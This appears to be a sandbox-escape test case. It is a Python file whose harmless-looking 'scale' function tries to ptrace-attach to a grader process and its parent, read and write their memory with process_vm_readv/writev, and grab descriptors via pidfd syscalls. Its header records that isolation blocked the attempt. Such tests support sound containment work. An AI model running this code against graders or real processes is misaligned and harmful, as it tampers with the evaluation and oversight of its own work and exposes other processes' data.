"""
title = "attaches to the grader and reads its memory"
family = "reaching out"
stopped_by = "namespaces: no other process exists; seccomp: none of these calls; Landlock: its own domain only"
verdict = "failed"
also = ["landlock", "filter", "spaces"]
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def scale(x):
    buffer = ctypes.create_string_buffer(8)
    local, remote = Vector(ctypes.addressof(buffer), 8), Vector(0x400000, 8)
    for pid in {int("@GRADER@"), os.getppid() or 1}:
        if pid == os.getpid():
            continue
        if libc.ptrace(16, pid, None, None) == 0:
            libc.ptrace(17, pid, None, None)
            print("LEAK traced", pid)
        if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) >= 0:
            print("LEAK read", pid)
        if libc.process_vm_writev(pid, ctypes.byref(local), 0, ctypes.byref(remote), 0, 0) > 0:
            print("LEAK wrote", pid)
        for number in (434, 438):
            if libc.syscall(number, pid, 0, 0) >= 0 and number == 438:
                print("LEAK took a descriptor")
    return x


def shift(x):
    return x + 1
